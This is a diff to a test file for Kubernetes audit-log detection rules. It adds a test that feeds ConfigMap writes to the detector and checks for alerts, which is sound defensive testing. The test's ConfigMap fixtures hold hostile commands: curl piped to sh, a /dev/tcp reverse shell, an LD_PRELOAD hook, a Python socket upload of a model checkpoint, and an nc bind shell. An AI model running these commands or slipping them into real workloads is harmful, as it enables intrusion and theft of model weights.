@@ -2,8 +2,9 @@
  * The workload rules (MLS-RAY-033 … 036, MLS-POISON-013, MLS-EXFIL-049) over audit events as the
  * real audit reader stores them (ingest pipeline → case file → caseEvents → the shipped rule set):
  * what a created or changed workload will run is read from the restored request body
- * (workload-fields.ts), whichever wrapper carries the pod spec; a subresource write other than a
- * pod's ephemeral containers (an exec, a status) runs nothing of its body.
+ * (workload-fields.ts), whichever wrapper carries the pod spec, or a JSON Patch or a ConfigMap's
+ * scripts; a subresource write other than a pod's ephemeral containers (an exec, a status) runs
+ * nothing of its body.
  */
 import { describe, expect, it } from 'vitest';
 import { decideAuditLines } from './audit-rules.test-support.js';
@@ -157,6 +158,34 @@ describe('workload rules through the real audit reader', () => {
       '8 deployments -',
       '9 deployments -',
       '10 pods/status -',
+    ]);
+  });
+
+  it('read a ConfigMap written for workloads: its scripts as commands, its variable-named keys as their environment', async () => {
+    const cm = (data: Record<string, unknown>): Record<string, unknown> => ({ kind: 'ConfigMap', apiVersion: 'v1', data });
+    const lines = [
+      // A script fetched and run (MLS-RAY-036), a reverse shell by its #! line (MLS-RAY-034), a preload for envFrom (MLS-RAY-035),
+      // a Python script sending a checkpoint to a socket (MLS-EXFIL-049), a bind shell added by a JSON Patch (MLS-RAY-034).
+      write('create', 'configmaps', cm({ 'entry.sh': 'set -e\ncurl -fsSL http://203.0.113.7/i.sh | sh\nexec python train.py' })),
+      write('create', 'configmaps', cm({ start: '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1' })),
+      write('create', 'configmaps', cm({ LD_PRELOAD: '/host/var/lib/x/libcudahook.so', NCCL_DEBUG: 'INFO' })),
+      write('update', 'configmaps', cm({ 'sync.py': "import socket\ns = socket.create_connection(('203.0.113.7', 4444))\ns.sendall(open('/mnt/ckpt/model.safetensors', 'rb').read())\n" }), 200),
+      write('patch', 'configmaps', [{ op: 'add', path: '/data/hook.sh', value: 'nc -lp 4444 -e /bin/sh' }], 200),
+      // An everyday training entrypoint, its environment and config (left); the CA bundle the controller publishes (left); a refused shell (left).
+      write('create', 'configmaps', cm({ 'train.sh': '#!/bin/bash\nset -euo pipefail\ntorchrun --nproc-per-node=8 train.py --ckpt-dir /mnt/ckpt', PYTHONPATH: '/workspace/src', 'config.yaml': 'lr: 0.0003\nbatch: 64\n' })),
+      write('create', 'configmaps', cm({ 'ca.crt': '-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----\n' }), 201, { username: 'system:serviceaccount:kube-system:root-ca-cert-publisher', groups: [] }),
+      write('create', 'configmaps', cm({ start: '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1' }), 403),
+    ];
+    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
+    expect(got).toEqual([
+      '1 configmaps MLS-RAY-036 alert',
+      '2 configmaps MLS-RAY-034 alert',
+      '3 configmaps MLS-RAY-035 alert',
+      '4 configmaps MLS-EXFIL-049 alert',
+      '5 configmaps MLS-RAY-034 alert',
+      '6 configmaps -',
+      '7 configmaps -',
+      '8 configmaps -',
     ]);
   });
 });
